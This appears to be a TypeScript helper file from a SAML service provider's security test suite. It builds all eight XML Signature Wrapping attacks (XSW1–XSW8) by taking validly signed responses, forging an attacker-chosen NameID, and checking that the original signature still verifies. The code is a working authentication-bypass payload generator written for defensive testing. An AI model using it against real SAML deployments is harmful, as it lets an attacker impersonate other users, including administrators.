import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

/** The XML signature wrapping shapes (Somorovsky et al., "On Breaking SAML", as SAML Raider names them). */
export type XswShape = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

/** Which signature a shape wraps: XSW1–2 need a signed Response, XSW3–8 a signed Assertion. */
export const XSW_TARGET: Readonly<Record<XswShape, 'response' | 'assertion'>> = {
  XSW1: 'response',
  XSW2: 'response',
  XSW3: 'assertion',
  XSW4: 'assertion',
  XSW5: 'assertion',
  XSW6: 'assertion',
  XSW7: 'assertion',
  XSW8: 'assertion',
};

let evilCounter = 0;
const evilId = () => `_evil_${(evilCounter += 1)}`;

/**
 * Applies one XSW shape to a validly signed Response (from {@link SamlTestIdp}) with
 * `@xmldom/xmldom`: the signed original survives somewhere the signature reference still resolves
 * to, while an attacker-controlled copy (NameID = `evilNameId`, fresh IDs so that no duplicate ID
 * gives it away) sits where a naive reader looks.
 *
 * - XSW1: evil Response at the root; the signed original Response inside the root's Signature.
 * - XSW2: as XSW1, the original Response a detached sibling before the Signature.
 * - XSW3: an unsigned evil Assertion inserted before the signed original.
 * - XSW4: the evil Assertion replaces the original, which is moved inside it.
 * - XSW5: the signed Assertion itself is altered (keeps its Signature); an unsigned copy of the
 *   original is appended to the Response.
 * - XSW6: as XSW5, the copy inside the altered Assertion's Signature.
 * - XSW7: the signed original moved into a `samlp:Extensions`; an unsigned evil Assertion in its place.
 * - XSW8: as XSW5, the copy inside a `ds:Object` of the altered Assertion's Signature.
 *
 * @example
 * const attack = applyXsw('XSW3', idp.responseXml({ ...options, sign: 'assertion' }), 'admin@victim.test');
 */
export function applyXsw(shape: XswShape, signedXml: string, evilNameId: string): string {
  const document = new DOMParser().parseFromString(signedXml, 'text/xml');
  const response = document.documentElement;
  const assertion = firstChild(response, ASSERTION, 'Assertion');
  switch (shape) {
    case 'XSW1':
    case 'XSW2': {
      const signature = firstChild(response, DSIG, 'Signature');
      const original = stripSignature(response.cloneNode(true) as Element);
      response.setAttribute('ID', evilId());
      assertion.setAttribute('ID', evilId());
      setNameId(assertion, evilNameId);
      if (shape === 'XSW1') signature.appendChild(original);
      else response.insertBefore(original, signature);
      break;
    }
    case 'XSW3':
    case 'XSW4': {
      const evil = evilCopy(assertion, evilNameId);
      if (shape === 'XSW3') response.insertBefore(evil, assertion);
      else {
        response.replaceChild(evil, assertion);
        evil.appendChild(assertion);
      }
      break;
    }
    case 'XSW5':
    case 'XSW6':
    case 'XSW8': {
      const original = stripSignature(assertion.cloneNode(true) as Element);
      const signature = firstChild(assertion, DSIG, 'Signature');
      assertion.setAttribute('ID', evilId());
      setNameId(assertion, evilNameId);
      if (shape === 'XSW5') response.appendChild(original);
      else if (shape === 'XSW6') signature.appendChild(original);
      else {
        const object = document.createElementNS(DSIG, 'ds:Object');
        object.appendChild(original);
        signature.appendChild(object);
      }
      break;
    }
    case 'XSW7': {
      const evil = evilCopy(assertion, evilNameId);
      const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
      response.replaceChild(evil, assertion);
      extensions.appendChild(assertion);
      const issuer = firstChild(response, ASSERTION, 'Issuer');
      response.insertBefore(extensions, issuer.nextSibling);
      break;
    }
  }
  return new XMLSerializer().serializeToString(document);
}

/**
 * Parses `xml`, lets `mutate` change the DOM, serializes it back (for single-purpose attack
 * mutations: duplicate IDs, encrypted assertions, …).
 *
 * @example
 * const twin = mutateXml(xml, (doc) => doc.documentElement.setAttribute('ID', assertionId));
 */
export function mutateXml(xml: string, mutate: (document: Document) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  mutate(document);
  return new XMLSerializer().serializeToString(document);
}

/** The first child element of `parent` with this namespace and local name (throws when absent). */
export function firstChild(parent: Element, namespace: string, localName: string): Element {
  for (const node of Array.from(parent.childNodes)) {
    const element = node as Element;
    if (node.nodeType === 1 && element.namespaceURI === namespace && element.localName === localName) return element;
  }
  throw new Error(`no ${localName} child`);
}

function evilCopy(assertion: Element, evilNameId: string): Element {
  const evil = stripSignature(assertion.cloneNode(true) as Element);
  evil.setAttribute('ID', evilId());
  setNameId(evil, evilNameId);
  return evil;
}

function stripSignature(element: Element): Element {
  for (const node of Array.from(element.childNodes)) {
    const child = node as Element;
    if (node.nodeType === 1 && child.namespaceURI === DSIG && child.localName === 'Signature')
      element.removeChild(child);
  }
  return element;
}

function setNameId(assertion: Element, value: string): void {
  const nameId = assertion.getElementsByTagNameNS(ASSERTION, 'NameID')[0];
  if (nameId === undefined) throw new Error('no NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(assertion.ownerDocument.createTextNode(value));
}

/**
 * Whether xml-crypto ALONE still accepts the signature that references `#signedId` (wherever the
 * attack moved it) with `certificatePem`: proof that an attack document keeps a cryptographically
 * valid signature, so only the SP's own rules stop it.
 *
 * @example
 * expect(signatureStillVerifies(attack, '_assertion-1', idp.certificatePem)).toBe(true);
 */
export function signatureStillVerifies(xml: string, signedId: string, certificatePem: string): boolean {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const signature = Array.from(document.getElementsByTagNameNS(DSIG, 'Signature')).find((candidate) =>
    Array.from(candidate.getElementsByTagNameNS(DSIG, 'Reference')).some(
      (reference) => reference.getAttribute('URI') === `#${signedId}`,
    ),
  );
  if (signature === undefined) return false;
  const verifier = new SignedXml({ publicCert: certificatePem });
  verifier.loadSignature(signature);
  try {
    return verifier.checkSignature(xml);
  } catch {
    return false;
  }
}
